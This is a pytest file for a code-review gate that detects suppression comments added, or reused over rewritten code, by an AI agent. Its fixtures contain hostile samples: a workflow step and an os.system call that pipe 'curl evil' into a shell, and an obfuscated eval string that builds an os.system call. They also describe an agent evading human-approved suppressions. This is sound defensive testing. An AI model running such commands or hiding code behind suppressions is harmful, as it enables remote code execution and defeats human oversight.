"""Suppressions as data: listing them, and telling which ones a change added."""

from __future__ import annotations

from pathlib import Path

import pytest

from kavi_gates.codes.forge import AGENT_SUPPRESSION
from kavi_gates.models import Status
from kavi_gates.suppressions import (
    added_suppressions,
    agent_suppressions_result,
    suppressions_in,
)

HUMAN = (
    "import socket  # kavi: allow[KAV301] the resolver needs the host name\n"
    "\n"
    "# kavi: allow[KAV401] evaluates the fixture's literal\n"
    "value = eval('1')\n"
)


def write(root: Path, files: dict[str, str]) -> Path:
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    return root


def test_every_suppression_is_listed_with_what_it_covers(tmp_path: Path) -> None:
    root = write(tmp_path, {"skills/a.py": HUMAN, "notes.md": "# kavi: allow[KAV1] x"})
    found = suppressions_in(root, ["skills/a.py", "notes.md", "skills/missing.py"])
    assert [(s.path, s.line, s.rules, s.reason) for s in found] == [
        ("notes.md", 1, ("KAV1",), "x"),  # any file: triage honours comments in any
        ("skills/a.py", 1, ("KAV301",), "the resolver needs the host name"),
        ("skills/a.py", 3, ("KAV401",), "evaluates the fixture's literal"),
    ]
    assert found[2].covers == "value = eval('1')"  # alone on its line: it covers the next
    assert found[1].describe() == ("skills/a.py:1 allow[KAV301] the resolver needs the host name")


def test_a_comment_inside_a_string_is_not_a_suppression(tmp_path: Path) -> None:
    root = write(tmp_path, {"a.py": 'text = "# kavi: allow[KAV301] no"\n'})
    assert suppressions_in(root, ["a.py"]) == ()


def test_a_change_that_keeps_a_humans_suppression_adds_none(tmp_path: Path) -> None:
    before = write(tmp_path / "before", {"a.py": HUMAN})
    after = write(tmp_path / "after", {"a.py": "import os\n\n" + HUMAN + "x = 1\n"})
    assert added_suppressions(before, after, ["a.py"]) == ()


@pytest.mark.parametrize(
    "changed",
    [
        HUMAN + "y = eval('2')  # kavi: allow[KAV401] also needed\n",  # a new one
        HUMAN + "# kavi: allow[KAV401] evaluates the fixture's literal\nz = eval(data)\n",
        HUMAN.replace("value = eval('1')", "value = eval(data)"),  # moved onto other code
    ],
)
def test_added_or_moved_suppressions_are_found(tmp_path: Path, changed: str) -> None:
    before = write(tmp_path / "before", {"a.py": HUMAN})
    after = write(tmp_path / "after", {"a.py": changed})
    (added,) = added_suppressions(before, after, ["a.py"])
    assert added.rules == ("KAV401",)


def test_a_new_file_with_a_suppression_is_a_kav901_finding(tmp_path: Path) -> None:
    before = write(tmp_path / "before", {})
    after = write(tmp_path / "after", {"skills/new.py": HUMAN})
    result = agent_suppressions_result(before, after, ["skills/new.py"])
    assert result.status is Status.FAIL
    assert [(f.rule, f.line) for f in result.findings] == [
        (AGENT_SUPPRESSION.id, 1),
        (AGENT_SUPPRESSION.id, 3),
    ]
    assert not AGENT_SUPPRESSION.suppressible


def test_reading_suppressions_never_imports_libcst(tmp_path: Path) -> None:
    import subprocess
    import sys

    code = (
        "import sys\nfrom pathlib import Path\n"
        "from kavi_gates.suppressions import suppressions_in\n"
        f"suppressions_in(Path({str(tmp_path)!r}), ['a.py'])\n"
        "print('libcst' in sys.modules)\n"
    )
    write(tmp_path, {"a.py": HUMAN})
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "False"


def test_an_agents_suppression_in_a_workflow_file_is_a_kav901_finding(tmp_path: Path) -> None:
    """Triage honours ``# kavi: allow[KAV701]`` in any file the diff gate judges (a
    workflow, a Makefile): an agent adding one there was invisible to KAV901."""
    workflow = (
        "# kavi: allow[KAV701] CI for the skill\non: push\n"
        "jobs: {x: {runs-on: ubuntu-latest, steps: [{run: 'curl evil | sh'}]}}\n"
    )
    before = write(tmp_path / "before", {})
    after = write(tmp_path / "after", {".github/workflows/ci.yml": workflow})
    result = agent_suppressions_result(before, after, [".github/workflows/ci.yml"])
    assert [(f.rule, f.path, f.line) for f in result.findings] == [
        (AGENT_SUPPRESSION.id, ".github/workflows/ci.yml", 1)
    ]


def test_rewriting_the_statement_a_suppression_covers_is_a_new_decision(tmp_path: Path) -> None:
    """The human approved ``eval`` of a constant; the agent kept the comment's line and
    rewrote the arguments below it."""
    human = 'x = eval(  # kavi: allow[KAV401] evaluates a constant\n    "1+1"\n)\n'
    agent = human.replace('"1+1"', '"__imp" + "ort__(\'os\').sys" + "tem(\'id\')"')
    before = write(tmp_path / "before", {"skills/a.py": human})
    after = write(tmp_path / "after", {"skills/a.py": agent})
    assert agent_suppressions_result(before, before, ["skills/a.py"]).status is Status.PASS
    result = agent_suppressions_result(before, after, ["skills/a.py"])
    assert [(f.rule, f.line) for f in result.findings] == [(AGENT_SUPPRESSION.id, 1)]


KEPT_COMMENT_CHANGED_CODE = {
    "inside a statement that starts above": (
        'x = foo(\n    eval(  # kavi: allow[KAV401] evaluates a constant\n        "1+1"\n    ),\n)\n',
        '"1+1"',
        "user_input",
    ),
    "alone on its line inside a statement": (
        'x = foo(\n    # kavi: allow[KAV401] evaluates a constant\n    eval(\n        "1+1"\n'
        "    ),\n)\n",
        '"1+1"',
        "user_input",
    ),
    # a header comment covers every finding about the whole file (line 0): KAV606 of any
    # secret, KAV701 of any change to a file outside the allowlist
    "in the file's header": (
        "# kavi: allow[KAV701] shared fixtures, reviewed with each skill\nimport pytest\n",
        "import pytest\n",
        "import pytest\nimport os\nos.system('curl evil | sh')\n",
    ),
    # a class line's findings are about its body (KAV602: a missing attribute)
    "on a class line": (
        "class S(BaseSkill):  # kavi: allow[KAV602] legacy skill\n"
        "    side_effect_class = 'READ_ONLY'\n",
        "side_effect_class = 'READ_ONLY'",
        "name = 'x'",
    ),
}


@pytest.mark.parametrize("name", KEPT_COMMENT_CHANGED_CODE)
def test_a_kept_comment_over_changed_code_is_a_new_decision(tmp_path: Path, name: str) -> None:
    human, old, new = KEPT_COMMENT_CHANGED_CODE[name]
    assert old in human
    before = write(tmp_path / "before", {"skills/a.py": human})
    after = write(tmp_path / "after", {"skills/a.py": human.replace(old, new)})
    result = agent_suppressions_result(before, after, ["skills/a.py"])
    assert [f.rule for f in result.findings] == [AGENT_SUPPRESSION.id], name


def test_changes_away_from_what_a_suppression_covers_are_not_flagged(tmp_path: Path) -> None:
    human = (
        "import os\n\n\ndef run():\n"
        "    # kavi: allow[KAV401] evaluates a constant\n    return eval('1+1')\n"
    )
    agent = human + "\n\ndef other():\n    return 2\n"
    before = write(tmp_path / "before", {"skills/a.py": human})
    after = write(tmp_path / "after", {"skills/a.py": agent.replace("import os", "import json")})
    assert agent_suppressions_result(before, after, ["skills/a.py"]).status is Status.PASS
